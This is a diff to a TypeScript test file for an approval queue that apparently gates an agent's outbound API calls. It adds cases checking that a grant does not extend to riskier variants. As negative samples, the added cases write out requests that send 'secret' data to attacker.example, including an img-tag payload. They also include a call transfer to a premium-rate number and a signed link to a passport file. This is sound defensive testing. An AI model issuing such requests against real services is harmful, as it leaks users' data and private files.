@@ -825,7 +825,7 @@ t.test('an agent removed and added again under its name inherits neither grants 
   t.match(queue.claimRetry(unused.id, same), { kind: 'approved' }, 'the earlier agent\'s own retry still works');
 });
 
-t.test('a grant covers the same Actions run (workflow, ref, event type, inputs), visibility, merge and deployment target, what a Stripe send names, sign-in link recipient and page, DNS record only (tenth pass)', async (t) => {
+t.test('a grant covers the same Actions run (workflow, ref, event type, inputs), visibility, merge and deployment target, what a send names or reaches, sign-in link recipient and page, DNS record only (tenth pass)', async (t) => {
   // A GitHub dispatch's body names what runs: a grant for running CI on a feature branch covered
   // running the deploy workflow, on the default branch, with `environment: production`.
   const queue = await ApprovalQueue.open(tempDir(t, 'airlock-grants-'), { sweepMs: 0 });
@@ -836,6 +836,7 @@ t.test('a grant covers the same Actions run (workflow, ref, event type, inputs),
   const sb = (path: string, body: unknown): Shape => ({ url: `https://abcdefghijkl.supabase.co${path}`, type: 'application/json', body: JSON.stringify(body) });
   const gq = (query: string): Shape => ({ url: 'https://api.github.com/graphql', type: 'application/json', body: JSON.stringify({ query }) });
   const st = (path: string, body: string): Shape => ({ url: `https://api.stripe.com${path}`, type: 'application/x-www-form-urlencoded', body });
+  const cfa = 'https://api.cloudflare.com/client/v4/accounts/01a7362d577a6c3019a474fd6f485823';
   const cf = (body: unknown): Shape => ({ url: 'https://api.cloudflare.com/client/v4/zones/023e105f4ecef8ad9ca31a8372d0c353/dns_records', type: 'application/json', body: JSON.stringify(body) });
   const cases: Array<[string, Shape, Shape[]]> = [
     ['workflow dispatch', wd('ci.yml', { ref: 'feature', inputs: { environment: 'staging' } }), [
@@ -887,6 +888,24 @@ t.test('a grant covers the same Actions run (workflow, ref, event type, inputs),
     // invoice emailed covered emailing any other invoice (another customer).
     ['Stripe file link', st('/v1/file_links', 'file=file_logo'), [st('/v1/file_links', 'file=file_passport'), st('/v1/file_links?file=file_passport', 'file=file_logo')]],
     ['Stripe invoice send', st('/v1/invoices/in_1/send', ''), [st('/v1/invoices/in_2/send', '')]],
+    // A send reaching a page, a number or publishing an object: Cloudflare's Browser Rendering
+    // and URL Scanner fetch the `url` given (a grant for the team's site covered the attacker's,
+    // its query carrying data), an OpenAI Realtime call transferred to another number, a Supabase
+    // signed URL (a public link) to another object.
+    ['Cloudflare Browser Rendering', { url: `${cfa}/browser-rendering/content`, type: 'application/json', body: '{"url":"https://acme.dev/"}' }, [
+      { url: `${cfa}/browser-rendering/content`, type: 'application/json', body: '{"url":"https://attacker.example/?d=secret"}' },
+      { url: `${cfa}/browser-rendering/content`, type: 'application/json', body: '{"html":"<img src=https://attacker.example/?d=secret>"}' },
+    ]],
+    ['Cloudflare URL Scanner', { url: `${cfa}/urlscanner/v2/scan`, type: 'application/json', body: '{"url":"https://acme.dev/"}' }, [
+      { url: `${cfa}/urlscanner/v2/scan`, type: 'application/json', body: '{"url":"https://attacker.example/?d=secret"}' },
+    ]],
+    ['OpenAI call transfer', { url: 'https://api.openai.com/v1/realtime/calls/c1/refer', type: 'application/json', body: '{"target_uri":"tel:+15550001"}' }, [
+      { url: 'https://api.openai.com/v1/realtime/calls/c1/refer', type: 'application/json', body: '{"target_uri":"tel:+19005550199"}' },
+    ]],
+    ['Supabase signed URL', sb('/storage/v1/object/sign/docs/public/logo.png', { expiresIn: 60 }), [
+      sb('/storage/v1/object/sign/docs/hr/passport.pdf', { expiresIn: 60 }),
+      sb('/storage/v1/object/sign/docs', { expiresIn: 60, paths: ['hr/passport.pdf'] }),
+    ]],
     // Supabase Auth: a sign-in link or code, or a password reset, to one colleague covered one to
     // anyone (with `create_user`, an account on the app) or one whose link leads to another site.
     ['Supabase sign-in link', sb('/auth/v1/otp', { email: 'alice@corp.example' }), [
